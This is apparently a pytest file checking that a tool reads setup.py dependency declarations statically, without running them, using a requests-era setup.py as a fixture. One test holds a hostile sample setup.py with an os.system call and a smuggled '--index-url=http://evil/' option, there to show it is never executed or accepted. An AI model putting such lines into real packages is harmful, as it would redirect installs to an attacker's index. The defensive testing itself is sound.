"""A setup.py's test declarations are read from its syntax tree: literals and names bound to them, never run."""

from __future__ import annotations

from codemill.swe.env import detect_recipe
from codemill.swe.setup_py import SetupPy, read_setup_py

REQUESTS_2018 = '''#!/usr/bin/env python
import os
from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))
test_requirements = ['pytest-httpbin==0.0.7', 'pytest-cov', 'pytest-mock', 'PySocks>=1.5.6, !=1.5.7', 'pytest>=2.8.0']
about = {}
with open(os.path.join(here, 'requests', '__version__.py')) as f:
    exec(f.read(), about)

setup(
    name=about['__title__'],
    python_requires=">=2.7, !=3.0.*, !=3.1.*, !=3.2.*, !=3.3.*",
    tests_require=test_requirements,
    extras_require={
        'security': ['pyOpenSSL>=0.14'],
        'test': ['pytest'],
        'socks:sys_platform == "win32"': ['win_inet_pton'],
    },
)
'''


def test_literals_and_names_bound_to_them_are_read() -> None:
    declared = read_setup_py(REQUESTS_2018)
    assert declared.install_requires == []  # a setup() that names none needs none
    assert declared.tests_require == ["pytest-httpbin==0.0.7", "pytest-cov", "pytest-mock", "PySocks>=1.5.6, !=1.5.7",
                                      "pytest>=2.8.0"]
    assert declared.extras_require["test"] == ["pytest"] and "security" in declared.extras_require
    assert declared.python_requires.startswith(">=2.7")


def test_computed_or_broken_declarations_are_left_out() -> None:
    computed = "import setuptools\nsetuptools.setup(tests_require=open('t.txt').read().split(), extras_require=x)\n"
    assert read_setup_py(computed) == SetupPy(install_requires=[])  # it names none: it needs none
    assert read_setup_py("setup(**meta)\n").install_requires is None  # hidden: not known
    assert read_setup_py("print 'python 2'\n") == SetupPy()
    assert read_setup_py("setup(name='x')\n") == SetupPy(install_requires=[])
    assert read_setup_py("setup(install_requires=['six', '-e git+https://x'])\n").install_requires == ["six"]
    # Read, not run: the call that would run is never executed; an installer option is not a requirement.
    hostile = "import os\nos.system('touch /tmp/pwned')\nsetup(tests_require=['--index-url=http://evil/', 'ok'])\n"
    assert read_setup_py(hostile).tests_require == ["ok"]


def test_a_setup_py_projects_test_requirements_are_in_its_recipe(tmp_path) -> None:
    (tmp_path / "setup.py").write_text(REQUESTS_2018)
    recipe = detect_recipe(tmp_path)
    assert "pytest-httpbin==0.0.7" in recipe.requirements and recipe.extras == ("test",)
    assert recipe.python.startswith(">=2.7") and "setup.py" in recipe.sources
